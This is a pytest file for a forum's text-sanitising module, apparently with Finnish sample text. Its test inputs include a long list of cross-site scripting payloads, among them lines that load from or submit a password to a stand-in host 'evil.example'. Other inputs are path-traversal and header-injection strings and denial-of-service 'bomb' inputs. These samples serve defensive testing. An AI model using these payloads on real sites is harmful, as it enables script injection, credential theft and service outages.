"""Texts: what others write becomes harmless HTML, in a time that grows with its length."""

import re
import time
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from forum import text

HOSTILE = """
<script>alert(1)</script>
<SCRIPT SRC=http://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" ONERROR="alert(1)" alt="x">
<img/src/onerror=alert(1)>
<img src="javascript:alert(1)">
<svg onload=alert(1)><circle/></svg>
<svg><script>alert(1)</script></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" java\tscript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="//evil.example" onclick="alert(1)" style="position:fixed">x</a>
<a href="http://x" target="_blank" rel="opener">x</a>
<iframe src="http://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="http://evil.example/x.swf"></object>
<embed src="http://evil.example/x.swf">
<form action="http://evil.example"><input name=password><button>x</button></form>
<style>body{background:url(http://evil.example)}</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="expression(alert(1))" class="parvi-footer" id="main">x</div>
<link rel=stylesheet href="http://evil.example/x.css">
<meta http-equiv=refresh content="0;url=http://evil.example">
<base href="http://evil.example/">
<body onload=alert(1)>
<table background="javascript:alert(1)"><tr><td background="x">x</td></tr></table>
<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<textarea></textarea><img src=x onerror=alert(1)></textarea>
<title></title><script>alert(1)</script></title>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><?xml-stylesheet href="javascript:alert(1)"?>
<p/onmouseover=alert(1)>x</p>
<b onmouseover="alert(1)" a="<c">x</b>
<abbr title="</a><script>alert(1)</script>">x</abbr>
<span lang="x&quot; onclick=&quot;alert(1)">x</span>
<ol start="1 onclick=alert(1)"><li>x</li></ol>
<code class="x" onclick=alert(1)>x</code>
<input autofocus onfocus=alert(1)>
<\x00script>alert(1)</script>
<scr\x00ipt>alert(1)</script>
<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<a href="http://x/\u202e\u2066">x</a>
""".strip().splitlines()
TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*)((?:\s+[^\s=>]+(?:=\"[^\"]*\")?)*)\s*/?>")
ATTRIBUTE = re.compile(r"([^\s=]+)=\"([^\"]*)\"")


def check_harmless(html: str) -> None:
    """Only tags and attributes we know, only addresses that run nothing. The pattern takes every "<" for a tag."""
    rest = TAG.sub("", html)
    assert "<" not in rest
    for closing, tag, attributes in TAG.findall(html):
        assert tag in text.TAGS
        for name, value in ATTRIBUTE.findall(attributes):
            assert not closing
            assert name in text.ATTRIBUTES.get(tag, set()) | {"rel"}
            if name in ("href", "src"):
                assert re.match(r"(?:https?|mailto|tel|cid):", value) or ":" not in value.partition("/")[0]
        if tag == "a" and "href=" in attributes:
            assert 'rel="nofollow noopener"' in attributes


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_becomes_harmless(hostile: str) -> None:
    for html in (text.sanitize(hostile), text.from_markdown(hostile), text.from_mail(hostile)):
        check_harmless(html)
    assert "alert" not in text.sanitize(hostile) or "<script" not in text.sanitize(hostile)


@pytest.mark.parametrize(
    "hostile",
    [
        "[x](javascript:alert(1))",
        "[x](  JAVASCRIPT:alert(1))",
        "[x](data:text/html,<script>)",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n[x]",
        '[x](http://x "onclick=alert(1)")',
        '[x](http://x"onclick="alert(1))',
        "`<script>`",
        "    <script>alert(1)</script>",
        "```html\n<script>\n```",
        '```"><script>\nx\n```',
        'https://evil.example/"onmouseover=alert(1)',
        "<b>&lt;script&gt;</b>",
    ],
)
def test_hostile_markdown_becomes_harmless(hostile: str) -> None:
    check_harmless(text.from_markdown(hostile))


@given(st.text("<>\"'=&;/! \nabscripthref:jonlx-`[]()*>#", max_size=60))
def test_any_text_becomes_harmless(anything: str) -> None:
    for write in (text.sanitize, text.from_markdown, text.from_mail):
        check_harmless(write(anything))


@given(st.text('<>ab&;"/ pdivscrt', max_size=80))
def test_cleaning_twice_changes_nothing_more(anything: str) -> None:
    once = text.sanitize(anything)
    assert text.sanitize(once) == once


def test_what_belongs_stays() -> None:
    kept = '<p>Hei <strong>te</strong>, <em>kaikki</em>: <a rel="nofollow noopener" href="https://x.org/?a=1&amp;b=2">linkki</a></p>'
    assert text.sanitize(kept) == kept
    assert '<img alt="kuva" src="cid:1@x">' in text.sanitize('<img src="cid:1@x" alt="kuva">').replace(
        'src="cid:1@x" alt="kuva"', 'alt="kuva" src="cid:1@x"'
    )


def test_markdown_as_people_write_it() -> None:
    html = text.from_markdown("Moi\nkaikki!\n\n- yksi\n- kaksi\n\n> lainaus\n\nhttps://x.org ja a|b\n\n**näin** ~~ei~~")
    for part in (
        "Moi<br>",
        "<li>yksi</li>",
        "<blockquote>",
        'href="https://x.org"',
        "<strong>näin</strong>",
        "<s>ei</s>",
    ):
        assert part in html


def test_a_mail_keeps_lines_links_and_depths() -> None:
    html = text.from_mail("Hei & moi\ntoinen rivi\n\nhttps://x.org/?a=1&b=2 tai anna@x.org\n> yksi\n>> kaksi\nloppu")
    assert html.startswith("<p>Hei &amp; moi<br>\ntoinen rivi</p>")
    assert 'href="https://x.org/?a=1&amp;b=2"' in html
    assert 'href="mailto:anna@x.org"' in html
    assert (
        "<blockquote><p>yksi</p></blockquote><blockquote><blockquote><p>kaksi</p></blockquote></blockquote><p>loppu</p>"
        in html
    )


BOMBS: list[tuple[Callable[[str], str], str]] = [
    (text.sanitize, "<div>" * 8_000),
    (text.sanitize, "<b><i>" * 8_000 + "x"),
    (text.sanitize, '<abbr title="</a">' * 4_000),
    (text.sanitize, "<" * 120_000),
    (text.sanitize, "&" * 120_000),
    (text.sanitize, "<table><tr><td>" * 10_000),
    (text.sanitize, "<a " + " ".join(f'x{n}="1"' for n in range(20_000)) + ">"),
    (text.sanitize, "<p>x</p>" * 20_000),
    (text.sanitize, "x" * 3_000_000),
    (text.from_markdown, "[" * 30_000),
    (text.from_markdown, "![a](b" * 5_000),
    (text.from_markdown, "*a _b " * 5_000),
    (text.from_markdown, ">" * 60_000),
    (text.from_markdown, "- " * 30_000),
    (text.from_markdown, "&" * 15_000),
    (text.from_markdown, "http://a.b/" * 5_000),
    (text.from_mail, "http://a.b/" * 1_800),
    (text.from_mail, ("http://a.b/" * 1_800 + "\n\n") * 10),
    (text.from_mail, "> " * 500_000),
    (text.from_mail, "\n " * 300_000),
    (text.from_mail, "a" + " " * 2_000_000 + "\n"),
    (text.from_mail, "a@b.fi " * 250_000),
    (text.from_mail, "> a a\n>> b b\n\n" * 1_000_000),
    (text.one_line, " " * 1_000_000),
    (text.excerpt, "(https:" * 200_000),
    (text.excerpt, "[" * 2_000_000),
    (text.to_text, "<" * 1_000_000),
    (text.words_of, "ä " * 100_000),
]


@pytest.mark.parametrize(("write", "bomb"), BOMBS, ids=lambda value: getattr(value, "__name__", f"{str(value)[:12]!r}"))
def test_no_text_takes_long(write: Callable[[str], str], bomb: str) -> None:
    began = time.process_time()
    write(bomb)
    assert time.process_time() - began < 2


def test_what_is_too_deep_is_still_readable() -> None:
    html = text.sanitize("<div>" * 200 + "Hei &amp; moi" + "</div>" * 200)
    check_harmless(html)
    assert "Hei &amp; moi" in html


@pytest.mark.parametrize(
    ("given_text", "line"),
    [
        ("  Hei \t te\n", "Hei te"),
        ("x\r\nBcc: y", "x Bcc: y"),
        ("a\u2028b\u2029c\x85d\x00e", "a b c d e"),
        ("\u202eabc\u200b\u2066", "abc"),
        ("lone \ud800 surrogate", "lone surrogate"),
        ("", ""),
        ("x" * 300, "x" * 200),
        ("x" * 199 + " yz", "x" * 199),
        ("Perhe 👩 ja työ", "Perhe 👩 ja työ"),
    ],
)
def test_one_line(given_text: str, line: str) -> None:
    assert text.one_line(given_text) == line


def test_one_line_of_a_megabyte_takes_no_time() -> None:
    begun = time.process_time()
    assert text.one_line(" " * 500_000 + "\u200bx\n" * 500_000) == ("x " * 100).strip()
    assert time.process_time() - begun < 0.05


@pytest.mark.parametrize(
    ("whole", "begins"),
    [
        ("> lainaus\nOma vastaus", "Oma vastaus"),
        ("**Hei** _te_, [tästä](https://x.org/y)!", "Hei te, tästä!"),
        ("sana " * 50, "sana " * 31 + "sana…"),
        ("a, b " * 60, ("a, b " * 32).strip() + "…"),
        ("", ""),
        ("> vain lainausta", ""),
    ],
)
def test_an_excerpt_is_the_beginning_of_ones_own_words(whole: str, begins: str) -> None:
    found = text.excerpt(whole)
    assert found == begins or (found.endswith("…") and begins.startswith(found[:100]))
    assert len(found) <= 161


@pytest.mark.parametrize(
    ("subject", "words"),
    [
        ("Hiljainen tieto!", "hiljainen-tieto"),
        ("Älä — ÖLJYÄ, Åsa?", "ala-oljya-asa"),
        ("?!", ""),
        ("../../etc/passwd", "etc-passwd"),
        ("one two three four five six seven eight nine", "one-two-three-four-five-six-seven-eight"),
        ("x" * 100, "x" * 60),
    ],
)
def test_the_words_of_an_address(subject: str, words: str) -> None:
    assert text.words_of(subject) == words
